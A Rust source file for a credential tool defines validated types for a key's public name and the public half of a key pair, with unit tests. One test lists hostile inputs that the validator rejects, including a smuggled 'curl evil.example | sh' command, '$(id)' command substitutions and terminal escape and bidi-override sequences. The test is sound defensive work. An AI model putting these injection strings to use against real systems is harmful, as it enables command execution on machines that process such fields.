//! The public name of a key, and the half of a key pair that is public.

use std::fmt;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// No vendor's is longer.
const LONGEST: usize = 128;

/// The public name of a key: an AWS access key id, the fingerprint of a Snowflake key.
///
/// Letters, digits and `:+/=_.-`, up to 128 of them, so it can be shown, logged and pasted wherever there is one. A vendor's
/// own rule may be narrower, and stands with its connector.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, JsonSchema, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct KeyId(String);

/// Not the name of a key. It is not repeated: it may be anything.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[error("a key's name has 1 to 128 letters, digits or :+/=_.- and this has not")]
pub struct NotAKeyId;

impl KeyId {
    /// Reads the vendor's name for a key.
    pub fn parse(id: &str) -> Result<Self, NotAKeyId> {
        let fits = |byte: u8| byte.is_ascii_alphanumeric() || b":+/=_.-".contains(&byte);
        if (1..=LONGEST).contains(&id.len()) && id.bytes().all(fits) {
            Ok(Self(id.to_owned()))
        } else {
            Err(NotAKeyId)
        }
    }

    /// The name of a key that is called by its fingerprint.
    pub(crate) fn of_sha256(digest: &[u8]) -> Self {
        Self(format!("SHA256:{}", STANDARD.encode(digest)))
    }

    /// What a plan calls the key that is yet to be made; no key can be called so.
    pub const TO_BE_MADE: &str = "(new key)";

    /// The key that is yet to be made.
    pub fn to_be_made() -> Self {
        Self(Self::TO_BE_MADE.to_owned())
    }

    /// The name as the vendor writes it.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for KeyId {
    type Error = NotAKeyId;

    fn try_from(id: String) -> Result<Self, NotAKeyId> {
        Self::parse(&id)
    }
}

impl From<KeyId> for String {
    fn from(id: KeyId) -> Self {
        id.0
    }
}

impl fmt::Display for KeyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// The public half of a key pair, in the form that registers it. No secret.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, JsonSchema, Serialize, Deserialize)]
#[serde(transparent)]
pub struct PublicHalf(String);

impl PublicHalf {
    /// Wraps what the vendor wants to be told.
    pub fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// What the vendor wants to be told.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_keys_are_read_as_they_are() {
        for id in [
            "AKIAIOSFODNN7EXAMPLE",
            "LKIAQAAAAAAAHFR7TTOM",
            "SHA256:oekVYFTgT6yJmunydRMs3Ael28TqLCrTof/G4NJTaB8=",
            "test",
        ] {
            assert_eq!(KeyId::parse(id).unwrap().as_str(), id);
            let json = serde_json::to_string(id).unwrap();
            assert_eq!(serde_json::from_str::<KeyId>(&json).unwrap().as_str(), id);
        }
    }

    #[test]
    fn what_could_do_harm_is_no_name_of_a_key_wherever_it_is_read() {
        let long = "A".repeat(20_000_000);
        let just_too_long = "A".repeat(LONGEST + 1);
        for id in [
            "",
            "AKIA\r",
            "AKIA\n",
            "AK\0IA",
            "AKIA; curl evil.example | sh",
            "$(id)",
            "`id`",
            "\u{202e}AIKA",
            "AKIA\u{200b}",
            "\u{1b}[2J",
            "(new key)",
            "@team",
            "<b>",
            &just_too_long,
            &long,
        ] {
            assert!(KeyId::parse(id).is_err());
            let json = serde_json::to_string(id).unwrap();
            assert!(serde_json::from_str::<KeyId>(&json).is_err());
        }
    }
}
